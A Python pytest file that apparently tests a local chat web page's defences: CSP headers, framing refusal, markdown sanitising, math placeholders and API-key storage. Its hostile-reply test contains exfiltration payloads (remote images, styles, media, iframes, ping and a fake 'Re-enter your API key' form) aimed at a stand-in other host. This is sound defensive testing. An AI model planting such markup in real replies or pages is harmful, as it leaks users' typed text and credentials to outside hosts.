"""The chat page cannot leak what the user types: a reply full of markup that fetches (images,
styles, media, srcset, forms, frames...) makes the browser ask no other host, the server sends a
Content-Security-Policy with the page and every file of it and refuses to be framed, math is placed
after sanitising where model text cannot forge or break it, and the API key stays in the tab unless
the user asks to remember it. Replies come from an upstream that echoes the user's message, so
hostile text reaches the real page through the real server."""

from __future__ import annotations

import json
import re
from dataclasses import replace

import httpx
import pytest
from browser import EchoAndRecord, echo_upstream, launched_browser
from serving import TEST_SETTINGS, isolated_store, running_server

HTML = {"Accept": "text/html,application/xhtml+xml"}
ECHO = "evil/echo"
PIXEL = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"


@pytest.fixture(scope="module")
def sites(tmp_path_factory):
    """The r1local server (fronting the echo upstream) and the other host, as base URLs."""
    with echo_upstream() as other_url:
        settings = replace(TEST_SETTINGS, upstreams=(("evil", f"{other_url}/v1"),))
        with isolated_store(tmp_path_factory.mktemp("store")), running_server(settings) as url:
            yield url, other_url


@pytest.fixture
def page(sites):
    """A fresh page of the chat page on the echo model, recording every request the browser makes
    and every violation of the page's policy."""
    url, _ = sites
    EchoAndRecord.hits.clear()
    with launched_browser() as browser:
        context = browser.new_context()
        page = context.new_page()
        page.requests = []
        context.on("request", lambda request: page.requests.append(request.url))
        page.goto(url, wait_until="load")
        page.evaluate("""() => { window.violations = [];
            document.addEventListener('securitypolicyviolation', (e) => window.violations.push(
                e.blockedURI === 'inline' ? `${e.effectiveDirective} ${e.sourceFile}` : e.blockedURI)); }""")
        page.wait_for_function(f"() => [...document.querySelectorAll('#model option')].some(o => o.value === '{ECHO}')")
        page.select_option("#model", ECHO)
        yield page
        context.close()


def reply_to(page, text: str):
    """Send `text`; the echo model answers with it. Returns the reply's body once complete."""
    count = page.locator(".msg.assistant").count()
    page.fill("#prompt", text)
    page.click("#send")
    page.wait_for_function(f"() => document.querySelectorAll('.msg.assistant').length === {count + 1}")
    page.wait_for_selector("#send:not([hidden])")
    page.wait_for_timeout(500)  # any fetch the reply set off has left by now
    return page.locator(".msg.assistant .body").last


def foreign(page, url: str) -> list[str]:
    own = url.rstrip("/")
    return [u for u in page.requests if not (u.startswith(own + "/") or u == own or u.startswith("data:"))]


def test_a_hostile_reply_makes_no_request_to_another_host(sites, page):
    url, other = sites
    hostile = "\n\n".join(
        [
            f"![ok]({other}/md-image?d=what-you-typed)",
            f'<img src="{other}/img">',
            f'<img srcset="{other}/srcset 1x" src="{PIXEL}" alt="pixel">',
            f'<div style="background:url({other}/style)">styled</div>',
            f'<video poster="{other}/poster" src="{other}/video" autoplay></video>',
            f'<audio src="{other}/audio" autoplay></audio>',
            f'<picture><source srcset="{other}/source"><img src="{other}/picture"></picture>',
            f'<form action="{other}/form" method="post"><input name="key" value="k">'
            f"<button>Re-enter your API key</button></form>",
            f'<svg><image href="{other}/svg"></image></svg>',
            f'<link rel="stylesheet" href="{other}/link"><style>@import url({other}/import);</style>',
            f'<iframe src="{other}/iframe"></iframe><object data="{other}/object"></object><embed src="{other}/embed">',
            f'<input type="image" src="{other}/input"><table background="{other}/table"><tr><td>x</td></tr></table>',
            f'<a href="{other}/link-ok" ping="{other}/ping">a link</a>',
            "- [x] a task list keeps its box",
        ]
    )
    body = reply_to(page, hostile)
    assert EchoAndRecord.hits == [] and foreign(page, url) == []
    # the image became a link the user may follow, and the links need that click
    assert body.locator(f'a[href="{other}/md-image?d=what-you-typed"]').inner_text() == "[image: ok]"
    assert body.locator("a[target=_blank][rel='noopener noreferrer']").count() >= 2
    assert body.locator(f'img[src="{PIXEL}"]').count() == 1  # inline images stay
    for selector in (
        "form",
        "button",
        "video",
        "audio",
        "source",
        "svg",
        "iframe",
        "object",
        "embed",
        "style",
        "link",
        "[style]",
        "[srcset]",
        "[background]",
        "[ping]",
        "input:not([type=checkbox][disabled])",
    ):
        assert body.locator(selector).count() == 0, selector
    assert body.locator("input[type=checkbox][disabled][checked]").count() == 1
    # the sanitiser left nothing for the policy to block (DOMPurify's own parse of a style attribute or
    # element is reported as blocked before the sanitiser drops it: the policy backing it up)
    violations = page.evaluate("window.violations")
    assert [v for v in violations if not v.startswith("style-src-") or "/ui/vendor/purify" not in v] == []


def test_the_policy_blocks_what_a_sanitiser_might_miss(sites, page):
    url, other = sites
    page.evaluate(f"""() => {{ const img = document.createElement('img'); img.src = '{other}/direct';
        document.body.append(img);
        const form = document.createElement('form'); form.action = '{other}/form'; form.method = 'post';
        document.body.append(form); form.submit(); }}""")
    page.wait_for_timeout(800)
    assert EchoAndRecord.hits == []
    assert any(uri.startswith(other) for uri in page.evaluate("window.violations"))


def test_every_file_of_the_page_carries_the_policy(sites):
    url, _ = sites
    page = httpx.get(url, headers=HTML)
    assets = re.findall(r'(?:src|href)="(/ui/[^"]+)"', page.text)
    assets += ["/ui/api.js", "/ui/markdown.js", "/ui/vendor/fonts/KaTeX_Main-Regular.woff2"]
    for response in [page] + [httpx.get(url + path) for path in assets]:
        assert response.status_code == 200, response.url
        policy = dict(part.strip().split(" ", 1) for part in response.headers["content-security-policy"].split(";"))
        assert policy["default-src"] == "'self'" and policy["script-src"] == "'self'"
        assert policy["img-src"] == "'self' data:" and policy["media-src"] == "'none'"
        assert policy["object-src"] == policy["form-action"] == policy["frame-ancestors"] == "'none'"
        assert response.headers["x-frame-options"] == "DENY"
        assert response.headers["x-content-type-options"] == "nosniff"


def test_another_site_cannot_frame_the_page(sites, page):
    url, other = sites
    EchoAndRecord.FRAMER = f'<iframe id="f" src="{url}/" width="800" height="600"></iframe>'
    page.goto(f"{other}/frame", wait_until="load")
    page.wait_for_timeout(500)
    framed = [frame for frame in page.frames if frame != page.main_frame]
    assert framed and all(not frame.url.startswith(url) or frame.locator("#prompt").count() == 0 for frame in framed)


def test_math_cannot_break_out_of_an_attribute_nor_be_forged(page):
    body = reply_to(page, '<abbr title="$x^2$">squared</abbr> and $a+b$ but not @@MATH0@@ nor @@MATH1@@')
    assert body.locator("abbr").get_attribute("title") == "$x^2$"  # the source, as text
    assert body.locator(".katex").count() == 1 and "a+b" in body.locator(".katex").inner_text()
    assert "@@MATH0@@ nor @@MATH1@@" in body.inner_text()
    assert body.locator("abbr *").count() == 0 and body.locator("[katex], .katex-mathml").count() == 1
    # math renders in text, lists and links, and stays out of code
    body = reply_to(page, "- $$\\frac{1}{2}$$\n- [see $x$](http://127.0.0.1:9/)\n\n`$y$`")
    assert body.locator(".katex-display").count() == 1 and body.locator("a .katex").count() == 1
    assert body.locator("code").inner_text() == "$y$"


@pytest.fixture(scope="module")
def keyed(tmp_path_factory):
    settings = replace(TEST_SETTINGS, api_key="sesame")
    with isolated_store(tmp_path_factory.mktemp("store")), running_server(settings) as url:
        yield url


def test_the_api_key_stays_in_the_tab_unless_remembered(keyed):
    stored = "() => [sessionStorage.getItem('r1local.apiKey'), localStorage.getItem('r1local.rememberedApiKey')]"
    with launched_browser() as browser:
        context = browser.new_context()
        first = context.new_page()
        first.goto(keyed, wait_until="load")
        first.wait_for_selector("#key-dialog[open]")
        first.fill("#key-input", "sesame")
        first.press("#key-input", "Enter")
        first.wait_for_selector("#status:has-text('No model is downloaded')")  # the key opened the API
        assert first.evaluate(stored) == ["sesame", None]
        assert "sesame" not in json.dumps(first.evaluate("() => ({...localStorage})"))
        first.reload(wait_until="load")  # the same tab keeps it
        first.wait_for_timeout(300)
        assert not first.is_visible("#key-dialog")

        second = context.new_page()  # a new tab asks again; this time the user asks to remember it
        second.goto(keyed, wait_until="load")
        second.wait_for_selector("#key-dialog[open]")
        second.fill("#key-input", "sesame")
        second.check("#key-remember")
        second.click("#key-ok")
        second.wait_for_selector("#status:has-text('No model is downloaded')")
        assert second.evaluate(stored) == ["sesame", "sesame"]

        third = context.new_page()  # remembered: no question
        third.goto(keyed, wait_until="load")
        third.wait_for_timeout(300)
        assert not third.is_visible("#key-dialog")


def test_a_key_kept_by_an_older_page_leaves_the_disk(keyed):
    with launched_browser() as browser:
        page = browser.new_page()
        page.goto(f"{keyed}/ui/vendor/VERSIONS.txt")  # same origin, before the chat page runs
        page.evaluate("localStorage.setItem('r1local.apiKey', 'sesame')")
        page.goto(keyed, wait_until="load")
        page.wait_for_timeout(300)
        assert not page.is_visible("#key-dialog")  # still usable in this tab
        assert page.evaluate("[localStorage.getItem('r1local.apiKey'), sessionStorage.getItem('r1local.apiKey')]") == [
            None,
            "sesame",
        ]
